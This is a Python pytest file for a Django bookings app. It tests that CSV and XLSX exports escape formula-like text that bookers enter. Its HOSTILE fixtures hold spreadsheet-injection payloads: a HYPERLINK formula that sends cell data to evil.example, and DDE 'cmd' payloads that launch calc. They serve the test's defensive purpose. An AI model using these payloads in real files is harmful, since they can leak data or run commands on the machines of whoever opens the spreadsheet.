"""The bookings' CSV and XLSX exports write no formula, whatever a booker typed.

A unit, contact, position, phone or note that begins with "=", "+", "-", "@", a tab or a carriage
return reaches the staff's file as text with a leading quote; numbers stay numbers.
"""

import pytest
from django.urls import reverse

from bookings.models import Booking
from tests.spreadsheet_cells import csv_formulas, csv_rows, xlsx_formulas, xlsx_values

pytestmark = pytest.mark.django_db

HOSTILE = {
    "organisation_name": '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "contact_name": "=1+2",
    "contact_position": "+cmd|' /C calc'!A0",
    "phone": "\t=1+2",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FILMS = "-2+3+cmd|' /C calc'!A0"
ESCAPED = {"'" + text for text in [*HOSTILE.values(), FILMS]}


def test_the_exports_write_the_bookers_text_as_text(client, leadership_user, request_booking):
    booking = request_booking(group_size=12, **HOSTILE)
    Booking.objects.filter(pk=booking.pk).update(films_shown=FILMS)
    client.force_login(leadership_user)
    url = "admin:bookings_booking_export"

    text = client.get(reverse(url, args=["csv"])).content.decode("utf-8")
    assert csv_formulas(text) == []
    (row,) = csv_rows(text)[1:]
    assert set(row) >= ESCAPED and "12" in row

    content = client.get(reverse(url, args=["xlsx"])).content
    assert xlsx_formulas(content) == []
    assert ESCAPED | {12} <= xlsx_values(content)
